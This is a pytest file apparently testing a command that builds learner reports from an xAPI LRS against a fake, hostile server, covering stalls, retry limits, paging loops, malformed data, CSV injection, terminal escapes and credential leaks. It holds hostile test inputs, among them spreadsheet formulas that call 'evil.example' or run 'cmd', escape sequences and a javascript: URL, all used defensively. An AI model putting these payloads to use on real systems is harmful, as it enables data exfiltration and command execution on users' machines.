"""`scormbuild report` against a hostile, broken or slow LRS (security review findings 7-10, L1, L7, L10).

A real LRS cannot stall, loop or answer nonsense on demand, so these tests talk to a small fake
LRS: an `http.server` in a thread whose answer to each request is a function of the test. The
report itself runs in a child process under a memory cap and a time-out (tests/sandbox.py), so a
hang or a runaway loop fails the test instead of hanging the run.

`SCORMBUILD_REPORT_TIMEOUT` (seconds per request) and `SCORMBUILD_REPORT_MAX_PAGES` are lowered
here to keep each test fast; the defaults are in src/scormbuild/analytics/lrs_http.py.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import socket
import struct
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from support.coursekit import run
from support.sandbox import Ended, run_scormbuild

from scormbuild.xapi_activities import SCENE_KIND_EXTENSION

VERBS = "http://adlnet.gov/expapi/verbs/"
COURSE = "https://courses.example.org/boundaries"
PASSWORD = "s3cret-pw"
ATTEMPTS = 3  # the report's MAX_ATTEMPTS: one request and two retries
# Bytes a terminal acts on: C0 except tab and newline, DEL, C1, and the bidi overrides/isolates.
RAW_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


# --- the fake LRS ---------------------------------------------------------------------------

Behaviour = Callable[["Handler", int], None]


class Handler(BaseHTTPRequestHandler):
    server: _Server

    def do_GET(self) -> None:  # noqa: N802 - stdlib name
        lrs = self.server.lrs
        with lrs.lock:
            lrs.requests.append(self.path)
            number = len(lrs.requests)
        self.close_connection = True
        try:
            lrs.behave(self, number)
        except OSError:  # the client went away (or the test reset the connection): nothing to do
            pass

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - stdlib signature
        pass

    def send(self, body: bytes, status: int = 200, content_type: str = "application/json") -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("X-Experience-API-Version", "1.0.3")
        self.end_headers()
        self.wfile.write(body)

    def json(self, value: object, status: int = 200) -> None:
        self.send(json.dumps(value).encode(), status)

    def stall(self) -> None:
        """Keep the connection open and say nothing more until the test ends."""
        self.wfile.flush()
        self.server.lrs.release.wait(60)

    def reset(self) -> None:
        """Close the connection with a TCP reset, before any answer."""
        self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.connection.close()


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False
    lrs: FakeLRS

    def handle_error(self, request: object, client_address: object) -> None:
        pass


class FakeLRS:
    def __init__(self, behave: Behaviour) -> None:
        self.behave = behave
        self.requests: list[str] = []
        self.lock = threading.Lock()
        self.release = threading.Event()
        self.server = _Server(("127.0.0.1", 0), Handler)
        self.server.lrs = self
        self.port = self.server.server_address[1]
        self.endpoint = f"http://127.0.0.1:{self.port}/xAPI/"
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.release.set()
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def fake_lrs(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[Behaviour], FakeLRS]]:
    # A short time-out for every test here, so that nothing can hang for long even before the fix.
    monkeypatch.setenv("SCORMBUILD_REPORT_TIMEOUT", "5")
    # No waits between attempts when report runs in this process: the tests count the attempts.
    monkeypatch.setattr("scormbuild.analytics.lrs_http.BACKOFF", (0.0, 0.0))
    started: list[FakeLRS] = []

    def start(behave: Behaviour) -> FakeLRS:
        started.append(FakeLRS(behave))
        return started[-1]

    yield start
    for lrs in started:
        lrs.close()


def report(endpoint: str, *args: str, seconds: float | None = None, memory_mb: int | None = None) -> Ended:
    """`scormbuild report` against ``endpoint``: in a child process under memory and time caps when
    the test is about either, else in this process (each request still has its 5 s time-out)."""
    command = ("report", "--endpoint", endpoint, "--user", "reader", "--password", PASSWORD, *args)
    if seconds is None and memory_mb is None:
        done = run(*command)
        return Ended(done.returncode, done.stdout, done.stderr)
    return run_scormbuild(*command, seconds=seconds or 40, memory_mb=memory_mb or 1024)


def assert_clean_failure(ended: Ended) -> None:
    assert ended.returncode == 1, ended.explain()
    assert "Traceback" not in ended.stderr, ended.explain()
    assert not RAW_CONTROLS.search(ended.stderr), ended.explain()


# --- statements -----------------------------------------------------------------------------

def statement(n: int, *, learner: str = "alex", name: str = "Alex", verb: str = "answered", item: str = "choose",
              kind: str = "decision", response: object = "option-a", **fields: object) -> dict:
    """An xAPI statement as scormbuild's player sends it; ``n`` makes its id and its time."""
    data = {
        "id": f"00000000-0000-4000-8000-{n:012x}",
        "actor": {"objectType": "Agent", "name": name, "mbox": f"mailto:{learner}@example.org"},
        "verb": {"id": VERBS + verb, "display": {"en": verb}},
        "object": {"objectType": "Activity", "id": f"{COURSE}/{item}",
                   "definition": {"extensions": {SCENE_KIND_EXTENSION: kind}}},
        "timestamp": f"2024-05-01T10:{n // 60 % 60:02d}:{n % 60:02d}.000Z",
        "stored": "2024-05-01T11:00:00.000Z",
    }
    if verb == "answered":
        data["result"] = {"response": response}
    data.update(fields)
    return data


def page(statements: list, more: str = "") -> dict:
    return {"statements": statements, "more": more}


def answer_once(statements: list) -> Behaviour:
    return lambda handler, number: handler.json(page(statements))


# --- finding 7: time-outs -------------------------------------------------------------------

def _silent(handler: Handler, number: int) -> None:
    handler.stall()


def _headers_then_stall(handler: Handler, number: int) -> None:
    handler.send_response(200)
    handler.send_header("Content-Type", "application/json")
    handler.send_header("Content-Length", "100000")
    handler.end_headers()
    handler.wfile.write(b'{"statements": [')
    handler.stall()


def _drip(handler: Handler, number: int) -> None:
    """A byte every 0.2 s, forever: each read is quick, the answer never ends."""
    handler.wfile.write(b"HTTP/1.1 200 OK\r\nX-Slow: ")
    while not handler.server.lrs.release.wait(0.2):
        handler.wfile.write(b"a")
        handler.wfile.flush()


@pytest.mark.slow
@pytest.mark.parametrize("behave", [_silent, _headers_then_stall, _drip], ids=["silent", "headers-then-stall", "drip"])
def test_a_stalled_lrs_is_a_timeout_not_a_hang(fake_lrs, monkeypatch, behave):
    lrs = fake_lrs(behave)
    monkeypatch.setenv("SCORMBUILD_REPORT_TIMEOUT", "1")
    ended = report(lrs.endpoint, seconds=20)
    assert_clean_failure(ended)
    assert "report: the LRS did not answer within 1 s" in ended.stderr
    assert "SCORMBUILD_REPORT_TIMEOUT" in ended.stderr  # how to wait longer
    assert len(lrs.requests) == 1  # a time-out is not retried: it would only multiply the wait


# --- retries --------------------------------------------------------------------------------

def _fail_then_answer(failures: int, fail: Callable[[Handler], None]) -> Behaviour:
    def behave(handler: Handler, number: int) -> None:
        if number <= failures:
            fail(handler)
        else:
            handler.json(page([statement(1)]))
    return behave


def _unavailable(handler: Handler) -> None:
    handler.send(b"<h1>503 Service Unavailable</h1>", 503, "text/html")


@pytest.mark.parametrize("fail", [_unavailable, Handler.reset], ids=["http-503", "connection-reset"])
def test_transient_failures_are_retried(fake_lrs, fail):
    lrs = fake_lrs(_fail_then_answer(ATTEMPTS - 1, fail))
    ended = report(lrs.endpoint, "--format", "json")
    assert ended.returncode == 0, ended.explain()
    assert [row["decisions"] for row in json.loads(ended.stdout)] == [{"choose": ["option-a"]}]
    assert len(lrs.requests) == ATTEMPTS


@pytest.mark.parametrize("fail", [_unavailable, Handler.reset], ids=["http-503", "connection-reset"])
def test_retries_have_a_cap(fake_lrs, fail):
    lrs = fake_lrs(_fail_then_answer(1000, fail))
    ended = report(lrs.endpoint)
    assert_clean_failure(ended)
    assert len(lrs.requests) == ATTEMPTS
    assert f"{ATTEMPTS} times" in ended.stderr and ended.stdout == ""


def test_a_client_error_is_not_retried_and_its_body_is_cut_and_cleaned(fake_lrs):
    body = ("\x1b]0;PWNED-TERMINAL-TITLE\x07\x1b[2J\x9b31m bad request " + "A" * 100_000).encode()
    lrs = fake_lrs(lambda handler, number: handler.send(body, 400, "text/plain"))
    ended = report(lrs.endpoint)
    assert_clean_failure(ended)
    assert len(lrs.requests) == 1
    assert "HTTP 400" in ended.stderr and "bad request" in ended.stderr
    assert len(ended.stderr) < 1000


# --- finding 8: `more` loops, duplicates, the page limit -------------------------------------

def _same_more(handler: Handler, number: int) -> None:
    handler.json(page([statement(1)], more="/xAPI/statements?more=1"))


def _new_more_same_statement(handler: Handler, number: int) -> None:
    handler.json(page([statement(1)], more=f"/xAPI/statements?more={number}"))


def _new_more_empty_page(handler: Handler, number: int) -> None:
    handler.json(page([statement(1)] if number == 1 else [], more=f"/xAPI/statements?more={number}"))


@pytest.mark.slow
@pytest.mark.parametrize("behave", [_same_more, _new_more_same_statement, _new_more_empty_page],
                         ids=["more-repeats", "no-new-statement", "empty-page"])
def test_a_more_link_that_goes_round_in_circles_is_an_error(fake_lrs, behave):
    lrs = fake_lrs(behave)
    ended = report(lrs.endpoint, seconds=60)
    assert_clean_failure(ended)
    assert "incomplete" in ended.stderr and ended.stdout == ""
    assert len(lrs.requests) <= 3


def test_a_statement_on_two_pages_is_counted_once(fake_lrs):
    first, second, third = statement(1, response="a"), statement(2, response="b"), statement(3, response="c")
    pages = {1: page([first, second], more="/xAPI/statements?page=2"), 2: page([second, third])}
    lrs = fake_lrs(lambda handler, number: handler.json(pages[number]))
    ended = report(lrs.endpoint, "--format", "json")
    assert ended.returncode == 0, ended.explain()
    assert [row["decisions"] for row in json.loads(ended.stdout)] == [{"choose": ["a", "b", "c"]}]


@pytest.mark.slow
def test_the_page_limit_is_an_error_not_a_silent_cut(fake_lrs, monkeypatch):
    def endless(handler: Handler, number: int) -> None:
        handler.json(page([statement(number)], more=f"/xAPI/statements?page={number + 1}"))

    lrs = fake_lrs(endless)
    monkeypatch.setenv("SCORMBUILD_REPORT_MAX_PAGES", "5")
    ended = report(lrs.endpoint, seconds=30)
    assert_clean_failure(ended)
    assert len(lrs.requests) == 5
    assert "5 pages" in ended.stderr and "SCORMBUILD_REPORT_MAX_PAGES" in ended.stderr
    assert "incomplete" in ended.stderr and ended.stdout == ""


# --- finding 9: statements it cannot read, answers that are not xAPI ------------------------

def test_statements_it_cannot_read_are_skipped_and_counted(fake_lrs):
    xapi2 = statement(2, learner="sam", name="Sam", context={"contextAgents": [
        {"objectType": "contextAgent", "agent": {"mbox": "mailto:t@example.org"}}]})
    unreadable = [
        statement(3, verb="passed", result={"score": {"scaled": "abc"}}),
        statement(4, verb="passed", result={"score": {"scaled": math.nan}}),
        5,
        "a statement",
        statement(6, actor=5),
        statement(7, actor={"mbox": ["mailto:x@example.org"]}),
        {**statement(8), "verb": "x"},
        statement(9, response=[1, 2]),
        statement(10, result={"response": "a", "success": "yes"}),
        statement(11, object="x"),
        statement(12, timestamp=5),
        statement(13, name={"first": "A"}),
        {key: value for key, value in statement(14).items() if key != "id"},
    ]
    lrs = fake_lrs(answer_once([statement(1), xapi2, *unreadable]))
    for output_format in ("json", "table"):
        ended = report(lrs.endpoint, "--format", output_format)
        assert ended.returncode == 0, ended.explain()
        assert "Traceback" not in ended.stderr
        assert f"skipped {len(unreadable)} statements" in ended.stderr
        assert "`actor`" in ended.stderr and "`result.score.scaled`" in ended.stderr  # briefly, why
        assert len(ended.stderr) < 1000
    rows = json.loads(report(lrs.endpoint, "--format", "json").stdout)
    assert {row["name"]: row["decisions"] for row in rows} == {"Alex": {"choose": ["option-a"]},
                                                               "Sam": {"choose": ["option-a"]}}


def test_with_activity_other_courses_statements_are_left_out_not_counted(fake_lrs):
    foreign = {**statement(2, actor=5, object={"id": "https://other.example.org/course/x"}), "verb": "x"}
    lrs = fake_lrs(answer_once([statement(1), foreign]))
    ended = report(lrs.endpoint, "--activity", COURSE, "--format", "json")
    assert ended.returncode == 0, ended.explain()
    assert "skipped" not in ended.stderr
    assert [row["decisions"] for row in json.loads(ended.stdout)] == [{"choose": ["option-a"]}]


@pytest.mark.parametrize("body", [
    b'{"statements": "abc"}',
    b'{"statements": {"id": "x"}}',
    b"[1, 2, 3]",
    b'{"more": ""}',
    b"null",
    b"[" * 100_000,
], ids=["statements-text", "statements-object", "top-level-list", "no-statements", "null", "deep"])
def test_an_answer_that_is_not_a_statement_result_is_an_error(fake_lrs, body):
    lrs = fake_lrs(lambda handler, number: handler.send(body))
    ended = report(lrs.endpoint)
    assert_clean_failure(ended)
    assert "did not answer like an xAPI LRS" in ended.stderr and ended.stdout == ""


@pytest.mark.slow
def test_an_endless_answer_is_cut_at_the_size_limit(fake_lrs):
    one = json.dumps(statement(1)).encode() + b","

    def endless(handler: Handler, number: int) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "application/json")
        handler.end_headers()  # no Content-Length: the body ends when the connection does
        handler.wfile.write(b'{"statements": [')
        chunk = one * (65536 // len(one))
        while not handler.server.lrs.release.is_set():
            handler.wfile.write(chunk)

    lrs = fake_lrs(endless)
    ended = report(lrs.endpoint, seconds=60, memory_mb=1024)
    assert_clean_failure(ended)
    assert "MiB" in ended.stderr and ended.stdout == ""


# --- finding 10: CSV injection --------------------------------------------------------------

def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(fake_lrs):
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
               "@SUM(1)", "\tTAB", "\rCR"]
    statements = [statement(1, name=hostile[0], response=hostile[1], kind=hostile[2], item="=cmd"),
                  statement(2, name="Bo", learner="bo", response=hostile[3], item=hostile[4]),
                  statement(3, verb="answered", item="think", kind="reflection", response=hostile[5],
                            actor={"objectType": "Agent", "account": {"homePage": "=evil", "name": "x"}})]
    lrs = fake_lrs(answer_once(statements))
    ended = report(lrs.endpoint, "--format", "csv")
    assert ended.returncode == 0, ended.explain()
    rows = list(csv.reader(io.StringIO(ended.stdout)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    for text in [*hostile, "=cmd", "=evil|x"]:
        assert "'" + text in cells, (text, cells)


# --- L7: terminal escape sequences ----------------------------------------------------------

ESCAPES = "\x1b]0;PWNED-TERMINAL-TITLE\x07\x1b[2J\x9b31m\u202eNEG\x00\x08\ud800"


@pytest.mark.parametrize("output_format", ["table", "csv"])
def test_lrs_data_never_sends_control_sequences_to_the_terminal(fake_lrs, output_format):
    statements = [statement(1, name="Al" + ESCAPES, response="opt" + ESCAPES),
                  statement(2, item="think", kind="reflection", response="I think" + ESCAPES + "\nsecond line")]
    lrs = fake_lrs(answer_once(statements))
    ended = report(lrs.endpoint, "--format", output_format)
    assert ended.returncode == 0, ended.explain()
    assert not RAW_CONTROLS.search(ended.stdout), repr(ended.stdout)
    assert "PWNED-TERMINAL-TITLE" in ended.stdout and "I think" in ended.stdout  # the text itself stays readable


def test_json_output_escapes_control_characters_and_keeps_the_text(fake_lrs):
    lrs = fake_lrs(answer_once([statement(1, item="think", kind="reflection", response="I think" + ESCAPES)]))
    ended = report(lrs.endpoint, "--format", "json")
    assert ended.returncode == 0, ended.explain()
    assert not RAW_CONTROLS.search(ended.stdout), repr(ended.stdout)
    assert json.loads(ended.stdout)[0]["reflections"] == {"think": "I think" + ESCAPES}


# --- L10: where requests and credentials go -------------------------------------------------

@pytest.mark.parametrize("more", ["@127.0.0.1:{port}/steal", "//127.0.0.1:{port}/xAPI/statements",
                                  "http://127.0.0.1:{port}/xAPI/statements", "HTTP://reader@127.0.0.1:{port}/x"])
def test_a_more_link_never_leads_to_another_host(fake_lrs, more):
    elsewhere = fake_lrs(answer_once([]))
    more = more.format(port=elsewhere.port)

    def behave(handler: Handler, number: int) -> None:
        handler.json(page([statement(number)], more=more if number == 1 else ""))

    lrs = fake_lrs(behave)
    ended = report(lrs.endpoint)
    assert elsewhere.requests == []
    if more.startswith("@"):  # a path below the endpoint, on the LRS itself
        assert ended.returncode == 0, ended.explain()
        assert lrs.requests[1] == f"/xAPI/@127.0.0.1:{elsewhere.port}/steal"
    else:
        assert_clean_failure(ended)
        assert "another host" in ended.stderr and ended.stdout == ""


def test_a_password_in_the_endpoint_is_never_shown(fake_lrs):
    lrs = fake_lrs(answer_once([statement(1)]))
    ended = report(lrs.endpoint.replace("http://", "http://reader:SECRETPW@"))
    assert_clean_failure(ended)
    assert "SECRETPW" not in ended.stderr + ended.stdout
    assert "--user" in ended.stderr
    assert lrs.requests == []


# --- L1: malformed endpoints ----------------------------------------------------------------

@pytest.mark.parametrize("endpoint", [
    "http://[::1", "http://", "http:///xAPI/", "lrs.example.org/xAPI/", "ftp://lrs.example.org/xAPI/",
    "javascript:alert(1)", "http://lrs.example.org:99999/xAPI/", "http://lrs.example.org:port/xAPI/",
    "http://lrs example.org/xAPI/", "http://lrs.example.org/xAPI/\n", "http://lrs.example.org/xAPI/?a=b",
    "ftp://" + "x" * 100_000,
], ids=["open-ipv6", "no-host", "empty-host", "no-scheme", "ftp", "javascript", "port-range", "port-text", "space",
        "newline", "query", "long"])
def test_a_malformed_endpoint_is_a_usage_error(endpoint):
    ended = report(endpoint)
    assert ended.returncode in (1, 2), ended.explain()
    assert "Traceback" not in ended.stderr and "report: --endpoint " in ended.stderr, ended.explain()
    assert len(ended.stderr) < 600, ended.explain()
